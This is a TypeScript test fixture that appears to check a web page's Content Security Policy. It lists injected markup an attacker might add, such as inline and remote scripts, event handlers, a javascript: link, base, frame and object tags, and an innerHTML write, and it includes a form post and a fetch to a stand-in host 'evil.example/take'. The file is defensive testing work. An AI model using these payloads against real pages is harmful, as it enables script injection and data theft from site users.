/** Where an attacker is at home. */
export const elsewhere = 'https://evil.example'

/**
 * What an attacker adds who can write into a page: `act` makes it act, in the page, and is given where the attacker is at
 * home. The policy reports it by `directive` (Firefox `inFirefox`). If it got through, there is a global `owned`.
 */
export const attacks: {
  name: string
  markup: string
  directive: string
  inFirefox?: string
  act?: (address: string) => unknown
}[] = [
  { name: 'script', markup: '<script>owned = true</script>', directive: 'script-src-elem' },
  { name: 'script from elsewhere', markup: `<script src="${elsewhere}/a.js"></script>`, directive: 'script-src-elem' },
  { name: 'handler', markup: '<img src="/favicon.svg" alt="" onload="owned = true">', directive: 'script-src-attr' },
  {
    name: 'javascript: link',
    markup: '<a id="bait" href="javascript:owned = true">Free</a>',
    directive: 'script-src-elem',
    inFirefox: 'require-trusted-types-for',
    act: () => document.getElementById('bait')?.click(),
  },
  { name: 'style', markup: '<style>body { display: none }</style>', directive: 'style-src-elem' },
  {
    name: 'style sheet from elsewhere',
    markup: `<link rel="stylesheet" href="${elsewhere}/a.css">`,
    directive: 'style-src-elem',
  },
  { name: 'style attribute', markup: '<p style="position: fixed">Look</p>', directive: 'style-src-attr' },
  { name: 'base', markup: `<base href="${elsewhere}/">`, directive: 'base-uri' },
  {
    name: 'form',
    markup: `<form id="bait" action="${elsewhere}/take" method="post"></form>`,
    directive: 'form-action',
    // Past the start script, which would keep a form from being sent.
    act: () => {
      try {
        ;(document.getElementById('bait') as HTMLFormElement).submit()
      } catch {
        // Firefox says so to the caller, too.
      }
    },
  },
  { name: 'frame', markup: `<iframe src="${elsewhere}/"></iframe>`, directive: 'frame-src' },
  { name: 'picture from elsewhere', markup: `<img src="${elsewhere}/a.png" alt="">`, directive: 'img-src' },
  { name: 'plugin', markup: `<object data="${elsewhere}/a.swf"></object>`, directive: 'object-src' },
  {
    name: 'request to elsewhere',
    markup: '',
    directive: 'connect-src',
    act: (address) => fetch(`${address}/take`).catch(() => undefined),
  },
  {
    name: 'written markup',
    markup: '<p id="bait"></p>',
    directive: 'require-trusted-types-for',
    act: () => {
      const bait = document.getElementById('bait') as HTMLElement
      const write = () => (bait.innerHTML = '<img src="/favicon.svg" onload="owned = true">')
      try {
        write()
      } catch {
        // As it should: the sink refuses a plain string.
      }
    },
  },
]
